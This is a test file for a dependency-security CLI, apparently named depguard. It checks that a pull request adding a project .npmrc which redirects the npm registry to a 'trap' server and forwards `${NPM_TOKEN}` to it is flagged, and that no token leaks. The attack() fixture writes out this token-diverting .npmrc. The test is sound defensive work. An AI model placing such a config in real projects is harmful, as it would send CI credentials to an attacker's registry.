// The trust model against a pull request that moves the trust anchor
// (issue 15, attack 1): the PR adds a project .npmrc naming its own registry
// and an auth entry `//that-host/:_authToken=${NPM_TOKEN}`, and points every
// lockfile `resolved` URL there. depguard must report it (check and diff),
// keep judging hosts by the trusted config, and never send the CI's token to
// the trap. Two registries on 127.0.0.1: the trusted one (npm's env config)
// and the trap; the trap logs every request it gets.
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { TEST_DATE, depguardAsync, isolatedEnv, type CliResult } from '../helpers/cli.js';
import { leftPadProject } from '../helpers/project.js';
import { gitRepo } from '../diff/helpers.js';
import { integrityOf, TestRegistry } from '../enrich/registry-server.js';

const TOKEN = 'npm_SECRETTOKEN0123456789abcdef';
let trusted: TestRegistry;
let trap: TestRegistry;

beforeAll(async () => {
  trusted = await new TestRegistry().start();
  trap = await new TestRegistry().start();
  for (const registry of [trusted, trap]) registry.add('left-pad', { versions: { '1.3.0': { time: '2020-01-01T00:00:00.000Z' } } });
});
afterAll(async () => {
  await trusted.stop();
  await trap.stop();
});

/** The CLI online against the trusted registry, with the CI's token in the environment and an empty home. */
function run(args: string[], cwd: string): Promise<CliResult> {
  return depguardAsync(args, { cwd, env: isolatedEnv(trusted.url, { npm_config_globalconfig: join(mkdtempSync(join(tmpdir(), 'depguard-trust-')), 'npmrc-global'), NPM_TOKEN: TOKEN }) });
}

function project(registry: TestRegistry): Record<string, string | object> {
  return leftPadProject(registry.url, integrityOf(registry.tarballOf('left-pad', '1.3.0')));
}

function attack(): Record<string, string | object> {
  const host = new URL(trap.url).host;
  return {
    ...project(trap),
    '.npmrc': `registry=${trap.url}\n@victim:registry=${trap.url}\n//${host}/:_authToken=\${NPM_TOKEN}\nmin-release-age=3\n`,
  };
}

const ONLY = ['--only', 'lockfile,npm-config,release-age,deprecated,capabilities', '--fail-on', 'info', '--date', TEST_DATE, '-f', 'json'];

describe('a project .npmrc that names its own registry (security-npmrc-redirect)', () => {
  it('check: the redirect is a finding, lockfile hosts are judged by the trusted config, the token never reaches the trap', async () => {
    const repo = gitRepo([{ files: attack() }]);
    trap.requests.length = 0;
    const result = await run(['check', ...ONLY], repo.project);
    expect(result.stderr).not.toMatch(/\n\s+at /);
    expect(result.code).toBe(1);
    const findings = (JSON.parse(result.stdout) as { findings: Array<{ rule: string; severity: string; evidence: Record<string, unknown> }> }).findings;
    const host = new URL(trap.url).host;
    expect(findings.filter((f) => f.rule === 'lockfile/foreign-host').map((f) => f.evidence.host)).toEqual([host]);
    expect(findings.filter((f) => f.rule === 'npm-config/untrusted-registry').map((f) => [f.severity, f.evidence.key, f.evidence.host]).sort()).toEqual([
      ['high', `//${host}/:_authToken`, host],
      ['high', '@victim:registry', host],
      ['high', 'registry', host],
    ]);
    // Registry-backed checks asked the trusted registry, never the trap; no token went anywhere.
    expect(trusted.requests.length).toBeGreaterThan(0);
    expect(trap.requests).toEqual([]);
    expect(trusted.requests.every((request) => request.headers.authorization === undefined)).toBe(true);
    expect(result.stdout + result.stderr).not.toContain(TOKEN);
  });

  it('the same project without the .npmrc, resolving to the trusted registry: no such finding', async () => {
    const repo = gitRepo([{ files: { ...project(trusted), '.npmrc': 'min-release-age=3\n' } }]);
    const result = await run(['check', ...ONLY], repo.project);
    const findings = (JSON.parse(result.stdout) as { findings: Array<{ rule: string }> }).findings;
    expect(findings.map((f) => f.rule).filter((rule) => rule === 'lockfile/foreign-host' || rule === 'npm-config/untrusted-registry')).toEqual([]);
  });

  it('diff: the head that adds the redirect gets new findings; its own waivers and allowedHosts do not apply', async () => {
    const host = new URL(trap.url).host;
    const headConfig = {
      checks: { lockfile: ['on', { allowedHosts: [host] }] },
      waivers: [{ id: 'npm-config/untrusted-registry', reason: 'trust me', expires: '2099-01-01' }],
    };
    const repo = gitRepo([{ files: { ...project(trusted), '.npmrc': 'min-release-age=3\n' } }, { files: { ...attack(), 'depguard.config.json': headConfig } }]);
    trap.requests.length = 0;
    const result = await run(['diff', '--base', 'HEAD~1', ...ONLY], repo.project);
    expect(result.stderr).not.toMatch(/\n\s+at /);
    expect(result.code).toBe(1);
    const out = JSON.parse(result.stdout) as { diff: { newFindings: Array<{ rule: string; waived?: unknown }>; manifest: Array<{ kind: string; field: string }> } };
    const rules = out.diff.newFindings.map((f) => f.rule);
    expect(rules).toContain('lockfile/foreign-host');
    expect(rules.filter((rule) => rule === 'npm-config/untrusted-registry')).toHaveLength(3);
    expect(out.diff.newFindings.every((f) => f.waived === undefined)).toBe(true);
    // The reviewer still sees what head's config tried.
    expect(out.diff.manifest.filter((change) => change.kind === 'config-changed').map((change) => change.field)).toEqual(['checks', 'waivers']);
    expect(trap.requests).toEqual([]);
    expect(result.stdout + result.stderr).not.toContain(TOKEN);
  });
});

describe('diff reads every file of the base that a check reads (security-npmrc-redirect)', () => {
  it('every config file the npm-config check reads is copied from the base, so a finding base already had is not new', async () => {
    const { isBaseFile } = await import('../../src/commands/diff/base.js');
    const { CONFIG_FILES } = await import('../../src/checks/npm-config/read.js');
    expect([...CONFIG_FILES, 'depguard.config.json', '.tool-versions', 'frontend/.nvmrc'].filter((file) => !isBaseFile(file))).toEqual([]);
    expect(['node_modules/x/.nvmrc', 'src/index.js', 'frontend/Dockerfile.dev'].filter(isBaseFile)).toEqual([]);
    expect(CONFIG_FILES).toContain('bunfig.toml');
  });

  it("a workflow's node-version-file in a subfolder is read on both sides: its end-of-life Node.js is not new on every diff", async () => {
    const workflow = 'on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/setup-node@v4\n        with:\n          node-version-file: frontend/.nvmrc\n';
    const repo = gitRepo([{ files: { ...project(trusted), '.github/workflows/ci.yml': workflow, 'frontend/.nvmrc': '16\n' } }, { files: { 'README.md': 'a change that touches no dependency\n' } }]);
    const args = ['--only', 'engines', '--fail-on', 'info', '--date', TEST_DATE, '-f', 'json'];
    const checked = JSON.parse((await run(['check', ...args], repo.project)).stdout) as { findings: Array<{ rule: string; evidence: Record<string, unknown> }> };
    expect(checked.findings.some((f) => JSON.stringify(f.evidence).includes('frontend/.nvmrc'))).toBe(true);
    const result = await run(['diff', '--base', 'HEAD~1', ...args], repo.project);
    expect(result.stderr).not.toMatch(/\n\s+at /);
    expect((JSON.parse(result.stdout) as { diff: { newFindings: unknown[] } }).diff.newFindings).toEqual([]);
  });

  it('a bunfig.toml registry the base already had is not a new finding of a change that leaves it alone', async () => {
    const bunfig = '[install]\nregistry = "https://registry.invalid/"\n';
    const repo = gitRepo([{ files: { ...project(trusted), 'bunfig.toml': bunfig } }, { files: { 'README.md': 'a change that touches no dependency\n' } }]);
    const args = ['--only', 'npm-config', '--fail-on', 'info', '--date', TEST_DATE, '-f', 'json'];
    // The check reads it: an untrusted registry, from bunfig.toml.
    const checked = JSON.parse((await run(['check', ...args], repo.project)).stdout) as { findings: Array<{ rule: string; evidence: Record<string, unknown> }> };
    expect(checked.findings.filter((f) => f.rule === 'npm-config/untrusted-registry').map((f) => f.evidence.file)).toEqual(['bunfig.toml']);
    // Base had it too: nothing new.
    const result = await run(['diff', '--base', 'HEAD~1', ...args], repo.project);
    expect(result.stderr).not.toMatch(/\n\s+at /);
    expect((JSON.parse(result.stdout) as { diff: { newFindings: unknown[] } }).diff.newFindings).toEqual([]);
    expect(result.code).toBe(0);
  });
});
